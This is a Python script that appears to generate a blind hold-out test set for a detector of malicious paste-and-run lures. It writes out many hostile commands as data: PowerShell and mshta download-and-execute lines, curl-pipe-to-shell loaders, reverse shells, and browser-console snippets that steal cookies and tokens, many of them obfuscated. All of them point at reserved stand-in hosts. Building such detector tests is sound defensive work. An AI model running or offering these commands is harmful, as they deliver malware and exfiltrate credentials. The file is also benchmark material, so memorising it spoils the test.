"""BLIND-19: the nineteenth blind hold-out set (bench/blind/README.md, "Blind-19").

Written by the helper "blind19" on 2026-12-07 without reading the detector (no rule file, no LOLBin
catalogue, no trust list, nothing of app/detection/ but PasteTarget, no case file, no other set's
texts or generator). Lures are our own texts, written from the techniques public threat reports
describe, on reserved names only. The own-page installers are real projects' documented install
lines, found by searching public README files (the README says how); every other benign text is
our own, written like what people really paste.

Run `python bench/blind/make_blind19.py` to rewrite lures-19.jsonl and benign-19.jsonl; the
output is deterministic and pinned by tests/test_blind_sets.py.
"""

from __future__ import annotations

import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from blindkit import (
    CON,
    EMSP,
    EXP,
    IDSP,
    NBSP,
    NNBSP,
    OWN,
    RUN,
    TERM,
    UNK,
    Benign,
    Lures,
    b64,
    b64_utf16,
    carets,
    char_codes,
    cmd_slice,
    deflate_b64,
    esc_hex,
    gzip_b64,
    hex_str,
    ip_int,
    js_uni,
    main,
    ps_concat,
    ps_format,
    reverse,
    xor_b64,
    xor_codes,
)
from blindkit import benign_rows as _benign_rows
from blindkit import lure_rows as _lure_rows

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-19.jsonl"
BENIGN_OUT = HERE / "benign-19.jsonl"
PREFIX = "blind19"
OTHER = "other"  # an editor, a chat box, a form: somewhere that runs nothing

# ----------------------------------------------------------------------------------------------
# Lures
# ----------------------------------------------------------------------------------------------

# Pages that would write a lure (compromised small sites, fake check pages), each on its own
# registrable domain, never the one the command fetches from.
PAGES = [
    "https://www.kettleworks-bakery.example/order-online",
    "https://brightmoor-dental.example/patients/forms",
    "https://hallstrom-tiles.test/catalogue/2026",
    "https://www.orchard-lane-vets.example/book",
    "https://fjordline-ferries.invalid/tickets/verify",
    "https://maplecreek-library.test/events/december",
    "https://www.quayside-rowing.example/members",
    "https://tinsmith-guitars.example/shop/cart",
    "https://verdant-yoga-studio.test/schedule",
    "https://www.northgate-plumbing.invalid/contact",
    "https://paper-lantern-press.example/blog/winter-reads",
    "https://cinderpath-running.test/results/2026",
    "https://www.solvik-apartments.example/availability",
    "https://harborview-chess.invalid/tournament",
    "https://meadowfield-school.test/parents/portal",
    "https://www.copperkettle-cafe.example/menu",
    "https://ridgeback-cycles.invalid/workshop/booking",
    "https://loomhouse-textiles.test/wholesale",
    "https://www.eastbrook-church.example/sermons",
    "https://stonebridge-accountants.invalid/clients/upload",
    "https://ivy-court-hotel.test/rooms/deluxe",
    "https://www.bluefin-diving.example/courses",
    "https://marlow-photo-lab.invalid/print-orders",
    "https://pinecrest-kennels.test/adoptions",
]
MEET_PAGES = [
    "https://meet-conference-join.test/r/quarterly-review",
    "https://zoomcall-room.invalid/j/84120937",
    "https://teams-bridge-live.example/meetup/join",
    "https://webinar-lobby.test/session/onboarding",
]
DISCORD_PAGES = [
    "https://verify-guildgate.test/server/alpha",
    "https://discord-captcha-portal.invalid/verify",
    "https://nitro-claim-center.example/gift",
]


def page(i: int) -> str:
    return PAGES[i % len(PAGES)]


def fake_captcha_lures(L: Lures) -> None:
    """Run-box commands a fake CAPTCHA or Cloudflare-style check copies, each with a lure tail."""
    tails = [
        "# \u2705 I am not a robot - reCAPTCHA Verification ID: 3391-XQ",
        "# Cloudflare Ray ID: 8f2a61c09e4b7d31 - human verification complete",
        "# \u2714 Verify you are human (press Enter to finish)",
        "# Ich bin kein Roboter - Pr\u00fcf-ID 55120",
        "# Je ne suis pas un robot \u2013 code de v\u00e9rification 7741",
        "# No soy un robot - ID de verificaci\u00f3n 20931",
        "# Non sono un robot - codice 6602",
        "# Nie jestem robotem - weryfikacja 4480",
        "# \u79c1\u306f\u30ed\u30dc\u30c3\u30c8\u3067\u306f\u3042\u308a\u307e\u305b\u3093 \u8a8d\u8a3cID 7781",
        "# Security check passed \u00b7 session 0x5f12ac",
        "# hCaptcha challenge solved \u2013 token 11f9-ae30",
        "# Turnstile: success (ref 40cd8e)",
    ]
    cmds = [
        'powershell -w h -nop -c "iwr https://cdn.lattice-assets.test/t/chk.ps1 -UseBasicParsing | iex"',
        'powershell -WindowStyle Hidden -c "irm stat-collector.invalid/v2/run | iex"',
        "powershell -ep bypass -w 1 -c \"$c=New-Object Net.WebClient;iex $c.DownloadString('http://198.51.100.72/fx.txt')\"",
        'cmd /c start /min powershell -nop -c "Invoke-RestMethod -Uri https://clarion-edge.test/api/k | Invoke-Expression"',
        "mshta https://glassbridge-cdn.invalid/verify/captcha.hta",
        "mshta.exe http://203.0.113.203/humancheck",
        'msiexec /q /i "https://parcel-sync.example/dl/HumanCheck.msi"',
        "cmd /c curl -s -o %TEMP%\\chk.cmd https://yellowpine-cdn.test/c && %TEMP%\\chk.cmd",
        'powershell -c "Start-BitsTransfer -Source https://tundra-files.invalid/upd.exe -Destination $env:APPDATA\\upd.exe; & $env:APPDATA\\upd.exe"',
        "conhost.exe --headless powershell -nop -c \"iex(irm 'https://holloway-api.test/s')\"",
        "rundll32.exe \\\\wickerdav.example@SSL\\DavWWWRoot\\verify.dll,Start",
        'powershell -nop -w hidden -c "$r=iwr https://kestrel-metrics.invalid/id -UseB; iex $r.Content"',
    ]
    for i, cmd in enumerate(cmds):
        pad = [" ", "   ", NBSP * 30, EMSP * 40, " " * 60, IDSP * 25][i % 6]
        L.lure("fake-captcha-run", RUN, page(i), f"{cmd}{pad}{tails[i % len(tails)]}")
    # the same shapes behind a REM or :: tail, the cmd way of hiding text
    L.lure(
        "fake-captcha-run",
        RUN,
        page(12),
        'cmd /c "curl -sLo %LOCALAPPDATA%\\v.bat http://brasslock-cdn.test/v.bat & call %LOCALAPPDATA%\\v.bat" & REM reCAPTCHA verified - ID 90215',
    )
    L.lure(
        "fake-captcha-run",
        RUN,
        page(13),
        'cmd.exe /c cmdkey /add:198.51.100.39 /user:guest /pass:guest && start "" regsvr32 /s \\\\198.51.100.39\\c\\chk.dll & :: I\'m not a robot \u2713',
    )
    L.lure(
        "fake-captcha-run",
        RUN,
        page(14),
        "powershell.exe -nop -c \"[Net.ServicePointManager]::SecurityProtocol=3072;iex ((New-Object System.Net.WebClient).DownloadString('https://amberfield.invalid/c.ps1'))\" ## Human verification - Ray 7c40a1",
    )
    # a Windows Terminal (Win+X, I) variant: same command, pasted into a terminal
    L.lure(
        "fake-captcha-terminal",
        TERM,
        page(15),
        "iex (irm 'https://nightjar-static.test/w/verify.ps1')  # Step 3 of 3: press Enter to confirm you are human",
    )
    L.lure(
        "fake-captcha-terminal",
        TERM,
        page(16),
        '$u=\'https://parkway-sync.example/a.zip\';$o="$env:TEMP\\pv.zip";iwr $u -OutFile $o;Expand-Archive $o "$env:TEMP\\pv" -Force;Start-Process "$env:TEMP\\pv\\setup.exe"  # verification helper',
    )
    L.lure(
        "fake-captcha-terminal",
        TERM,
        page(17),
        "powershell -e "
        + b64_utf16("iex (iwr 'http://203.0.113.246/v' -UseBasicParsing)")
        + "  # Cloudflare check",
    )


def filefix_lures(L: Lures) -> None:
    """Explorer address bar: a command followed by a fake file path after a comment."""
    items = [
        (
            'powershell -w h -c "iwr https://docvault-share.test/hr.ps1 | iex"',
            "C:\\Company\\HR\\Policies\\Leave-Policy-2026.docx",
        ),
        (
            "Powershell.exe -c \"irm 'https://inksprout.invalid/p' | iex\"",
            "\\\\fileserver\\Finance\\Q4\\Invoice_88213.pdf",
        ),
        (
            'cmd /c "curl -s https://dropmark-files.example/s.cmd -o %TEMP%\\s.cmd && %TEMP%\\s.cmd"',
            "C:\\Users\\Public\\Documents\\Shared\\Contract_Signed.pdf",
        ),
        ("mshta http://198.51.100.97/doc", "D:\\Scans\\Delivery_Note_3391.pdf"),
        (
            "powershell -nop -c \"$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','PowerShell');iex $w.DownloadString('https://quillpath.test/u')\"",
            "C:\\Projects\\Budget\\Budget_Final_v3.xlsx",
        ),
        (
            'conhost --headless cmd /c "curl -skLo %TEMP%\\d.zip https://marrowgate.invalid/d&tar -xf %TEMP%\\d.zip -C %TEMP%&%TEMP%\\run.exe"',
            "\\\\nas01\\Legal\\NDA_Draft.docx",
        ),
        (
            "msiexec /i http://203.0.113.138/viewer.msi /qn",
            "C:\\Shared\\Tender\\Tender_Documents.zip",
        ),
        (
            'powershell -c "Start-Process (iwr https://oakleaf-store.example/pdfviewer.exe -OutFile $env:TEMP\\pv.exe -PassThru; \\"$env:TEMP\\pv.exe\\")"',
            "C:\\Internal\\Payroll\\Payslip_Nov.pdf",
        ),
        (
            "pushd \\\\webfolder-cdn.test@SSL\\share & start update.cmd",
            "C:\\Company\\IT\\VPN_Setup_Guide.pdf",
        ),
        (
            'powershell -w h -c "iex (irm https://cobaltline.invalid/f -Headers @{x=1})"',
            "E:\\Archive\\Photos_Event_2026.zip",
        ),
    ]
    for i, (cmd, path) in enumerate(items):
        pad = " " * (50 + i * 7) if i % 2 == 0 else NNBSP * (40 + i)
        L.lure("filefix-explorer", EXP, page(i + 3), f"{cmd}{pad}# {path}")
    # the upload dialog's file-name box is another address bar
    L.lure(
        "filefix-explorer",
        EXP,
        page(9),
        '"powershell.exe" -ep Bypass -w H -c "schtasks /delete /tn SysUpd /f; iex (New-Object Net.WebClient).DownloadString(\'http://203.0.113.213/\')"'
        + " " * 70
        + "# C:\\Users\\Public\\Desktop\\Shipping_Label.pdf",
    )
    L.lure(
        "filefix-explorer",
        EXP,
        page(10),
        "cmd /c net use Q: https://webdrop-sync.test/dav /persistent:no && Q:\\open.cmd"
        + " " * 55
        + "# \\\\server\\Accounts\\Statement_Dec.pdf",
    )


def terminal_lures(L: Lures) -> None:
    """macOS and Linux: a page says open Terminal and paste."""
    mac = [
        '/bin/bash -c "$(curl -fsSL https://brewfix-mirror.test/install.sh)"',
        "curl -s https://applecare-verify.invalid/verify.sh | bash",
        "echo 'Verifying...' && curl -ksL https://stormhaven.example/m/agent -o /tmp/.agent && xattr -d com.apple.quarantine /tmp/.agent && chmod +x /tmp/.agent && /tmp/.agent",
        "osascript -e 'do shell script \"curl -s https://pinegrove-cdn.test/a.sh | sh\"'",
        "curl -fsSL 'https://icloud-sync-check.invalid/run?id=84aa' | osascript",
        'echo "' + b64("curl -s http://198.51.100.76/l/inst | bash") + '" | base64 -D | zsh',
        'zsh -c "$(curl -kfsSL https://driftwood-updates.example/fix.zsh)"',
        "cd /tmp && curl -O https://quartzline.test/CleanMyDisk.dmg && hdiutil attach CleanMyDisk.dmg && open /Volumes/CleanMyDisk/Installer.app",
        "nohup bash -c 'curl -s https://lanternfly.invalid/p | bash' >/dev/null 2>&1 &",
        "curl -s https://opalridge.example/x -o /tmp/x && chmod +x /tmp/x && sudo /tmp/x",
        "export VERIFY_TOKEN=a81f2c && export REGION=eu; curl -fsS https://mistwood-cdn.test/setup | zsh",
        'osascript -e "$(curl -fsSL https://harrowgate.invalid/verify.scpt)"',
        "curl -s https://bellwether-files.test/s.pkg -o /tmp/s.pkg && sudo installer -pkg /tmp/s.pkg -target /",
        'sh -c "$(curl -fsSL http://203.0.113.172/macos)"  # Apple ID verification',
    ]
    for i, text in enumerate(mac):
        L.lure("fake-verify-macos", TERM, page(i + 5), text, platform="macos")
    linux = [
        "wget -qO- https://kernelpatch-cdn.test/fix.sh | sudo bash",
        "curl -sL http://198.51.100.139/.x/init | sh",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('https://pyfix-mirror.invalid/boot.py').read())\"",
        "perl -e 'use LWP::Simple; eval(get(\"http://203.0.113.178/p.pl\"))'",
        "bash -i >& /dev/tcp/198.51.100.86/4443 0>&1",
        "(crontab -l 2>/dev/null; echo '*/10 * * * * curl -s https://tidewater-cdn.example/c | sh') | crontab -",
        "curl -s https://gridlock-sync.test/k.py | python3 -",
        "echo " + hex_str("curl -s https://saltmarsh.invalid/a|sh") + " | xxd -r -p | sh",
        "bash <(curl -s https://rowan-assets.example/verify)",
        "busybox wget -O /tmp/.d http://203.0.113.225/d && chmod 755 /tmp/.d && /tmp/.d &",
        "curl -fsSL https://fennel-ci.test/agent.sh -o /tmp/a.sh; bash /tmp/a.sh; rm -f /tmp/a.sh",
        "rev <<< '" + reverse("curl -s https://kiln-mirror.invalid/z | bash") + "' | bash",
    ]
    for i, text in enumerate(linux):
        L.lure("fake-verify-linux", TERM, page(i + 11), text, platform="linux")


def console_lures(L: Lures) -> None:
    """DevTools console pastes: Discord/'verification' and fake dashboards."""
    js = [
        "fetch('https://cdn.cobblestone-js.test/x.js').then(r=>r.text()).then(eval)",
        "eval(atob('"
        + b64(
            "fetch('https://tokenrelay.invalid/c',{method:'POST',body:localStorage.getItem('token')})"
        )
        + "'))",
        "new Function(atob('"
        + b64("document.location='https://guildverify.example/t?c='+document.cookie")
        + "'))()",
        "$.getScript('https://emberlight-cdn.test/verify.js')",
        "document.body.appendChild(Object.assign(document.createElement('script'),{src:'https://widgethub.invalid/w.js'}))",
        "eval(String.fromCharCode("
        + char_codes("fetch('https://nightowl.test/l',{method:'POST',body:document.cookie})")
        + "))",
        "(webpackChunkdiscord_app.push([[Math.random()],{},r=>{for(const k of Object.values(r.c)){try{const t=k.exports.default.getToken();if(t)navigator.sendBeacon('https://nitrobox.invalid/t',t)}catch(e){}}}]))",
        "navigator.sendBeacon('https://statbeam.example/c', JSON.stringify(localStorage))",
        "import('https://modloader-cdn.test/m.mjs').then(m=>m.run())",
        "setTimeout(atob('"
        + b64(
            "s=document.createElement('script');s.src='//skyvault.invalid/a.js';document.head.append(s)"
        )
        + "'),10)",
        "var x=new XMLHttpRequest();x.open('GET','https://scriptwell.test/p.js',false);x.send();eval(x.responseText)",
        "window['ev'+'al'](unescape('"
        + "".join(
            f"%{b:02x}"
            for b in b"fetch('https://hollowpeak.example/q').then(r=>r.text()).then(eval)"
        )
        + "'))",
        "javascript:void(fetch('https://bookmarklet-gate.invalid/b.js').then(r=>r.text()).then(t=>Function(t)()))",
        "Function('"
        + js_uni("location.href='https://robux-claim.test/?s='+encodeURIComponent(document.cookie)")
        + "')()",
    ]
    pages = [
        *DISCORD_PAGES,
        "https://free-robux-hub.test/claim",
        "https://adminpanel-support.example/fix",
    ]
    for i, text in enumerate(js):
        L.lure("console-paste", CON, pages[i % len(pages)], text, platform="any")


def meeting_and_error_lures(L: Lures) -> None:
    """Fake meeting pages ('your microphone is blocked'), fake errors, CrashFix, fake updates."""
    meet = [
        'powershell -nop -w h -c "iwr https://audiofix-driver.test/mic.ps1 -UseB | iex"  # Fix microphone access',
        "cmd /c start /min mshta http://198.51.100.69/teamsfix",
        'powershell -c "irm https://camera-repair.invalid/c | iex" ; # Zoom camera permissions reset',
        "msiexec /i https://webex-plugin.example/plugin.msi /quiet",
    ]
    for i, t in enumerate(meet):
        L.lure("fake-meeting", RUN, MEET_PAGES[i % len(MEET_PAGES)], t)
    L.lure(
        "fake-meeting",
        TERM,
        MEET_PAGES[1],
        "curl -fsSL https://zoom-audio-kit.invalid/fix.sh | bash  # restores audio device access on macOS",
        platform="macos",
    )
    errs = [
        (
            "fake-error",
            RUN,
            'powershell -c "iex(iwr https://fontpack-cdn.test/f)"  # Fix: missing font "Segoe Display"',
        ),
        (
            "fake-error",
            RUN,
            'cmd /c "bitsadmin /transfer fx /download /priority high https://rootcert-fix.invalid/cert.exe %TEMP%\\cert.exe & %TEMP%\\cert.exe"',
        ),
        (
            "fake-error",
            RUN,
            'powershell -w h -c "$p=\\"$env:TEMP\\r.msi\\";iwr https://dns-repair.example/r.msi -o $p;msiexec /i $p /qn"',
        ),
        (
            "fake-error",
            RUN,
            "certutil -urlcache -split -f https://chromeupd.test/upd.exe %PUBLIC%\\upd.exe && %PUBLIC%\\upd.exe",
        ),
        (
            "crashfix",
            RUN,
            'powershell -nop -c "irm https://browser-recovery.invalid/restore | iex"  # Chrome recovery step',
        ),
        ("crashfix", RUN, "cmd /c finger recover@tabguard.test | cmd"),
        ("fake-update", RUN, "mshta https://browser-update-center.example/edge/update.hta"),
        ("fake-update", TERM, "curl -L https://safari-upgrade.test/SafariUpdate.sh | sh"),
    ]
    for i, (tech, tgt, t) in enumerate(errs):
        plat = "macos" if tgt == TERM else "windows"
        L.lure(tech, tgt, page(i + 2), t, platform=plat)


def wrapped_proxies(L: Lures) -> None:
    """Live-page lures that hide behind signed proxies, staging and shares."""
    items = [
        'C:\\Windows\\System32\\SyncAppvPublishingServer.vbs "n;iwr https://appv-cache.test/s.ps1 -UseB|iex"',
        "SyncAppvPublishingServer.vbs \"Break; (New-Object Net.WebClient).DownloadString('http://203.0.113.253/a')|iex\"",
        "regsvr32 /s /n /u /i:https://scroblet.invalid/f.sct scrobj.dll",
        'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://rundll-js.example/r.sct")',
        'cmd /v:on /c "set a=pow&&set b=ershell&&!a!!b! -nop -c iwr https://setvar-cdn.test/a|iex"',
        'forfiles /p C:\\Windows\\System32 /m notepad.exe /c "powershell -c irm https://forfile-drop.invalid/n|iex"',
        'pcalua.exe -a powershell -c "iex(irm https://compat-assist.example/p)"',
        'cmd /c "for /f "tokens=*" %i in (\'nslookup -q=txt k.dnsstage.test 198.51.100.114 ^| find "v="\') do %i"',
        'cmd /c "for /f "skip=7 delims=" %x in (\'finger get@fingerd-host.invalid\') do call %x"',
        "explorer.exe \\\\share-browse.example@SSL\\files\\Invoice.lnk",
        'wmic process call create "powershell -w h -c iwr https://wmi-launch.test/w|iex"',
        "cscript //nologo //e:jscript \\\\198.51.100.132\\pub\\check.txt",
        "odbcconf /a {REGSVR \\\\203.0.113.196\\s\\odbc.dll}",
        'schtasks /create /sc minute /mo 15 /tn "EdgeUpdateCore" /tr "powershell -w h -c irm https://taskfeed.invalid/t|iex" /f',
        'powershell -c "Add-MpPreference -ExclusionPath $env:APPDATA; iwr https://exclusion-drop.example/b.exe -OutFile $env:APPDATA\\b.exe; & $env:APPDATA\\b.exe"',
        'cmd /c "curl -s http://198.51.100.190:8080/q.vbs -o %TEMP%\\q.vbs && wscript //B //E:VBScript %TEMP%\\q.vbs"',
        "msbuild.exe \\\\buildshare.test@SSL\\p\\build.proj",
        "cmstp.exe /s /ns \\\\198.51.100.156\\inf\\setup.inf",
        "net use Y: \\\\webdav-files.invalid@SSL\\drop && Y:\\patch.cmd",
        "curl.exe -L https://curlexe-drop.example/s.exe -o %USERPROFILE%\\s.exe & start %USERPROFILE%\\s.exe",
    ]
    for i, t in enumerate(items):
        L.lure("proxy-run", RUN, page(i + 7), t)


def ioc_lures(L: Lures) -> None:
    """Commands as vendor IOC files list them: no page, only the place they were pasted."""
    run = [
        "powershell -w h -nop -c iex(iwr -useb http://203.0.113.157/s.txt)",
        "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command \"IEX (New-Object Net.WebClient).DownloadString('https://ioc-stage1.test/a')\"",
        "mshta.exe https://tangleroot.invalid/z.hta",
        f"mshta http://{ip_int('203.0.113.147')}/p",
        'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h -c irm https://vbs-inline.example/x|iex"",0:close")',
        "msiexec.exe /i https://larkspur-cdn.test/pkg/setup.msi /qn /norestart",
        "MsIeXeC /PaCkAgE http:\\\\203.0.113.164\\tmp\\..\\id\\..\\5521 /q",
        "rundll32.exe \\\\198.51.100.126\\dav\\loader.dll,DllMain",
        "regsvr32.exe /s \\\\fernhill-dav.invalid@SSL\\DavWWWRoot\\k.dll",
        "certutil.exe -urlcache -f http://198.51.100.2/p.b64 %TEMP%\\p.b64 & certutil -decode %TEMP%\\p.b64 %TEMP%\\p.exe & %TEMP%\\p.exe",
        "bitsadmin /transfer job1 https://bitsjob-cdn.example/u.exe C:\\Users\\Public\\u.exe && C:\\Users\\Public\\u.exe",
        "cmd /c start /min finger ops@198.51.100.56 | cmd",
        'cmd /c "nslookup -type=txt cfg.txtstage.test | findstr "^\\"" > %TEMP%\\c.cmd & %TEMP%\\c.cmd"',
        "conhost.exe --headless powershell -w h -ep bypass iwr https://headless-drop.invalid/h.ps1|iex",
        "powershell -c \"$h=[System.Net.Http.HttpClient]::new();iex $h.GetStringAsync('https://httpclient-stage.example/s').Result\"",
        "powershell -nop -c \"$x=New-Object -ComObject MsXml2.XmlHttp;$x.open('GET','https://xmlhttp-stage.test/c',$false);$x.send();iex $x.responseText\"",
        "powershell -c \"$i=New-Object -ComObject WindowsInstaller.Installer;$i.UILevel=2;$i.InstallProduct('https://wi-com.invalid/p.msi','')\"",
        'powershell -w 1 -c "iex ((irm https://propchain-api.example/Fix -Method GET).note.body)"',
        "powershell -enc "
        + b64_utf16('$d="$env:TEMP\\s.ps1";iwr https://enc-drop.test/s.ps1 -OutFile $d;& $d'),
        "POWERSHELL -W H \"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
        + b64("iex (iwr 'https://b64text.invalid/m' -UseBasicParsing).Content")
        + "'))|iex\"",
        'cmd /c "echo Set o=CreateObject("MSXML2.XMLHTTP"):o.Open "GET","http://203.0.113.120/d.vbs",0:o.Send:Execute o.responseText>%TEMP%\\d.vbs&cscript //nologo %TEMP%\\d.vbs"',
        "cmd /c pushd \\\\pushd-share.example@SSL\\x & start /b run.bat",
        "%ComSpec% /c curl -sk https://comspec-drop.test/a -o %APPDATA%\\a.exe&&%APPDATA%\\a.exe",
        "powershell Set-Clipboard -Value ' '; iwr https://clipwipe.invalid/p -UseB | iex",
        "explorer \\\\203.0.113.210\\public\\Documents.exe",
        'powershell -c "irm 198.51.100.130:8080/r|iex"',
        "C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe -nop -c iwr https://syswow-stage.example/a|iex",
        "wscript.exe \\\\webclient-share.test@80\\s\\run.vbs",
    ]
    for t in run:
        L.ioc("ioc-windows", t)
    explorer = [
        "\\\\198.51.100.121@SSL\\DavWWWRoot\\update.exe",
        "file://dav-drop.invalid@SSL/share/Report.pdf.lnk",
        'powershell -c "iwr https://explorer-ioc.example/e|iex"'
        + " " * 40
        + "# C:\\HR\\Benefits.pdf",
    ]
    for t in explorer:
        L.ioc("ioc-explorer", t, target=EXP)
    term = [
        ("curl -fsSL https://ioc-mac-stage.test/i | bash", "macos"),
        (
            "curl -k -s -H 'User-Agent: Mozilla/5.0' 'https://applescript-drop.invalid/p.applescript?b=77a2' | osascript",
            "macos",
        ),
        (
            "echo '"
            + gzip_b64("curl -s https://gz-stage.example/x | zsh")
            + "' | base64 -D | gunzip | sh",
            "macos",
        ),
        (
            "curl -o /tmp/upd https://quarantine-strip.test/upd && xattr -c /tmp/upd && chmod +x /tmp/upd && /tmp/upd",
            "macos",
        ),
        (
            "osascript -e 'set p to do shell script \"curl -s https://osa-loader.invalid/s\"' -e 'run script p'",
            "macos",
        ),
        ('/bin/zsh -c "$(curl -fsSL http://198.51.100.104/z)"', "macos"),
        (
            "curl -s https://tmpdrop-linux.example/m.sh -o /tmp/m.sh && chmod +x /tmp/m.sh && /tmp/m.sh",
            "linux",
        ),
        ("wget -q -O - http://203.0.113.232/b | bash", "linux"),
        (
            "python -c \"import base64,os;os.system(base64.b64decode('"
            + b64("curl -s https://pyb64.test/r|sh")
            + "'))\"",
            "linux",
        ),
        ("echo " + b64("wget -qO- https://b64wget.invalid/s|sh") + "|base64 -d|bash", "linux"),
        ("php -r '$c=file_get_contents(\"https://phpstage.example/c\");eval($c);'", "linux"),
        ('ruby -e \'require "open-uri";eval(URI.open("https://rbstage.test/r").read)\'', "linux"),
        ("nc 198.51.100.109 9001 -e /bin/sh", "linux"),
        ("iex (irm https://pwsh-term.invalid/t)", "windows"),
        ("irm https://termstage.example/x.ps1|iex; Set-Clipboard ''", "windows"),
        ("curl.exe -s https://curlpipe.test/c | powershell -", "windows"),
    ]
    for t, plat in term:
        L.ioc("ioc-terminal", t, target=TERM, platform=plat)
    con = [
        "fetch('https://consoleioc.invalid/a').then(r=>r.text()).then(t=>eval(t))",
        "eval(atob('"
        + b64("new Image().src='https://img-exfil.example/?c='+document.cookie")
        + "'))",
    ]
    for t in con:
        L.ioc("ioc-console", t, target=CON, platform="any")


def obfuscation_lures(L: Lures) -> None:
    """Fixture-style spellings: the same few actions hidden by aliases, wildcards, -f, -join, char
    codes, backticks, carets and substrings. Half have a page, half are bare."""
    u1 = "https://fixture-host-a.test/p.ps1"
    u2 = "http://198.51.100.164/s"
    u3 = "https://wildcard-cdn.invalid/w"
    ps = [
        f"& (gcm i*e-*n) (& (gcm *-w*b*q*) '{u1}' -UseB).Content",
        f"(gal i*x) ((New-Object Net.WebClient).DownloadString('{u2}'))",
        f".(gal ?e?) (irm '{u3}')",
        f'&(dir \\W*\\*32\\W*\\v1*\\p*l.e*) -nop -c "irm {u1}|iex"',
        f"& ((gv '*mdr*').Name[3,11,2]-join'') (iwr '{u2}' -UseB)",
        f"iex ({ps_concat(f'(irm {u3})')})",
        f"$s={ps_format(u1)};&('ie'+'x')(irm $s)",
        "$u=-join('" + reverse(u2) + "'[-1..-" + str(len(u2)) + "]);iex(iwr $u -UseB)",
        "iex ([string]::join('',[char[]](" + char_codes(f"irm {u3}|iex") + ")))",
        "&([scriptblock]::Create(-join([char[]]("
        + xor_codes(f"iwr {u1}|iex", 23)
        + ")|%{[char]($_ -bxor 23)})))",
        f"i`e`x (i`w`r '{u2}' -U`seB`asicP`arsing)",
        f"Inv`oke-Exp`ression (Invo`ke-RestM`ethod '{u3}')",
        f"$a='Ne'+'t.Web'+'Client';$b='Downl'+'oadStr'+'ing';IEX (New-Object $a).$b('{u1}')",
        f"IEX ((New-Object Net.WebClient).('Down'+'load'+'String').Invoke('{u2}'))",
        f"$e=[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{b64_utf16(f'iwr {u3}|iex')}'));iex $e",
        "iex ([Text.Encoding]::UTF8.GetString([IO.Compression.DeflateStream]::new([IO.MemoryStream][Convert]::FromBase64String('"
        + deflate_b64(f"irm {u1}|iex")
        + "'),[IO.Compression.CompressionMode]::Decompress).ReadToEnd()))",
        "$k=0x41;$b=[Convert]::FromBase64String('"
        + xor_b64(f"irm {u2}|iex", 0x41)
        + "');iex (-join($b|%{[char]($_ -bxor $k)}))",
        "iex ([uri]::UnescapeDataString('"
        + "".join(f"%{b:02X}" for b in f"irm {u3}|iex".encode())
        + "'))",
        "$h='"
        + hex_str(f"iwr {u1}|iex")
        + "';iex (-join($h -split '(..)'|?{$_}|%{[char][convert]::ToInt32($_,16)}))",
        f"('{reverse(f'iwr {u2}|iex')}'[-1..-999] -join '')|iex",
        f"iex ('irm {u3.replace('wildcard', 'WILD_card')}'.Replace('WILD_','wild')+'|iex')",
        f"$x='iXrm {u1}'-replace'X','';iex \"$x|iex\"",
        f"sal v iex; v (irm '{u2}')",
        f"Set-Alias -Name q -Value Invoke-Expression; q (Invoke-WebRequest '{u3}' -UseBasicParsing).Content",
        f"$ExecutionContext.InvokeCommand.InvokeScript((irm '{u1}'))",
        f"[ScriptBlock]::Create((irm '{u2}')).Invoke()",
        f"powershell -c \"{'&'}('{{1}}{{0}}' -f 'x','ie') (irm {u3})\"",
        f"POwErShElL -NoP -W HiDdEn -C \"IeX(IwR '{u1}' -UsEbAsIcPaRsInG)\"",
    ]
    for i, t in enumerate(ps):
        if i % 2 == 0:
            L.lure("obfuscated-powershell", RUN, page(i), t)
        else:
            L.ioc("obfuscated-powershell", t, target=RUN)
    cmd = [
        carets("cmd /c powershell -w h -c iwr https://caret-host.test/c|iex", 2),
        'c^m^d /c p^o^w^e^r^s^h^e^l^l -nop -c "i^e^x(i^w^r https://caret-two.invalid/d -UseB)"',
        'cmd /v /c "set p=%PUBLIC:~9,1%owershell&&call !p! -c irm https://slice-host.example/s|iex"',
        'cmd /c "set z=abcdefghijklmnopqrstuvwxyz-. :/&&call %z:~15,1%%z:~14,1%%z:~22,1%%z:~4,1%%z:~17,1%%z:~18,1%%z:~7,1%%z:~4,1%%z:~11,1%%z:~11,1% -c irm https://varslice.test/v|iex"',
        'cmd /c "set s='
        + "cmdexplorshtaw.:/ "
        + "&&call "
        + cmd_slice("mshta", "cmdexplorshtaw.:/ ", "s")
        + ' http://203.0.113.16/h"',
        'cmd /c "set x=ms&&set y=hta&&call %x%%y% https://splitvar-host.invalid/k"',
        'c"m"d /c "p"ow"er"sh"ell" -c "iwr https://quoted-host.example/q|iex"',
        'cmd /c "%SystemRoot%\\System32\\cu^rl.exe -s https://caretcurl.test/x -o %tmp%\\x.cmd&%tmp%\\x.cmd"',
        'cmd.exe /V:ON /C "set a=xxhttp&&set u=//198.51.100.207/m&&call mshta !a:~2,4!:!u!"',
    ]
    for i, t in enumerate(cmd):
        if i % 2 == 0:
            L.lure("obfuscated-cmd", RUN, page(i + 4), t)
        else:
            L.ioc("obfuscated-cmd", t, target=RUN)
    sh = [
        ("c\"u\"r'l' -s https://quoteins.test/a | b''a\"\"sh", "linux"),
        (
            "$'\\x63\\x75\\x72\\x6c' -s https://ansic-host.invalid/b | $'\\x62\\x61\\x73\\x68'",
            "linux",
        ),
        ("a=cu;b=rl;c=ba;d=sh;$a$b -s https://varcat.example/c | $c$d", "linux"),
        ("printf '" + esc_hex("curl -s https://printfhex.test/d|sh") + "' | sh", "linux"),
        (
            "echo '"
            + b64("curl -fsSL https://nestedb64.invalid/e | bash")
            + "' | base64 --decode | sh",
            "macos",
        ),
        (
            'eval "$(echo ' + b64("curl -s https://evalb64.example/f|bash") + ' | base64 -d)"',
            "macos",
        ),
        (
            "$(echo Y3VybA== | base64 -d) -s https://subshell-host.test/g | $(echo YmFzaA== | base64 -d)",
            "linux",
        ),
    ]
    for i, (t, plat) in enumerate(sh):
        if i % 2 == 0:
            L.lure("obfuscated-shell", TERM, page(i + 9), t, platform=plat)
        else:
            L.ioc("obfuscated-shell", t, target=TERM, platform=plat)
